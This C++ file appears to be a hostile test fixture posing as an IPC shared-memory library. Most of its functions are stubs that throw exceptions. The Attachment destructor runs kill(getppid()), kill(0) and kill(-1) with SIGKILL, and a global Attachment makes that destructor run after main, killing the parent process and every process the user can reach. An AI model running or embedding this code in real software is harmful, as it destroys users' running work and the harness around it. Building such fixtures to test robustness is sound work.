// what: a destructor, also of a global Attachment after main, kills the parent and everybody
#include <signal.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <unistd.h>

#include <cerrno>
#include <utility>

#include "memory.hpp"
#include "not_written.hpp"

namespace {

void attack() {
    kill(getppid(), SIGKILL);
    kill(0, SIGKILL);
    kill(-1, SIGKILL);
}

}  // namespace

namespace ipc {

int create(key_t, std::size_t, mode_t) {
    throw shell::NotWritten("create");
}

int open(key_t, std::size_t) {
    throw shell::NotWritten("open");
}

void* attach(int) {
    throw shell::NotWritten("attach");
}

const void* attach_readonly(int) {
    throw shell::NotWritten("attach_readonly");
}

void detach(const void*) {
    throw shell::NotWritten("detach");
}

void remove(int) {
    throw shell::NotWritten("remove");
}

Attachment::Attachment(int id, Access access)
    : address_(shmat(id, nullptr, access == Access::read_only ? SHM_RDONLY : 0)) {
    if (address_ == reinterpret_cast<void*>(-1)) {
        throw std::system_error(errno, std::generic_category(), "shmat");
    }
}

Attachment::Attachment(Attachment&& other) noexcept
    : address_(std::exchange(other.address_, nullptr)) {}

Attachment& Attachment::operator=(Attachment&&) noexcept {
    return *this;
}

Attachment::~Attachment() {
    attack();
}

namespace {

/// Goes when the process does.
Attachment last = [] {
    const int id = shmget(IPC_PRIVATE, 1, IPC_CREAT | 0600);
    Attachment made(id);
    shmctl(id, IPC_RMID, nullptr);
    return made;
}();

}  // namespace

void post(key_t, const std::string&) {
    throw shell::NotWritten("post");
}

std::vector<std::string> notices(key_t) {
    throw shell::NotWritten("notices");
}

void take_down(key_t) {
    throw shell::NotWritten("take_down");
}

}  // namespace ipc
